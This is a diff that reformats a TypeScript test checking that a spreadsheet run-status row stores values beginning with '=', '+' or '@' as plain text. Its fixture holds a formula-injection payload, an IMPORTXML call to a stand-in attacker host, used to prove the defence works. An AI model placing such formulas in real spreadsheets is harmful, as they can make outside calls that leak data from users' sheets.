@@ -8,7 +8,27 @@ test('the last-run line keeps a message or job name that starts with "=" as text
   const emu = new Emulator();
   const sheet = emu.book.insertSheet('Pipeline Summary');
   const message = '=IMPORTXML("http://evil.example","//a")';
-  writeRunStatus(sheet as unknown as Sheet, { job: '+1 job', started: '@now', durationMs: 1500, result: 'Failed', message });
-  expect(sheet.getRange(2, 1, 1, 7).getFormulas().flat().filter((f) => f !== '')).toEqual([]);
-  expect(sheet.getRange(2, 1, 1, 7).getValues()[0]).toEqual(['Last run', '+1 job', '@now', '1.5 s', 'Failed', message, '']);
+  writeRunStatus(sheet as unknown as Sheet, {
+    job: '+1 job',
+    started: '@now',
+    durationMs: 1500,
+    result: 'Failed',
+    message,
+  });
+  expect(
+    sheet
+      .getRange(2, 1, 1, 7)
+      .getFormulas()
+      .flat()
+      .filter((f) => f !== ''),
+  ).toEqual([]);
+  expect(sheet.getRange(2, 1, 1, 7).getValues()[0]).toEqual([
+    'Last run',
+    '+1 job',
+    '@now',
+    '1.5 s',
+    'Failed',
+    message,
+    '',
+  ]);
 });
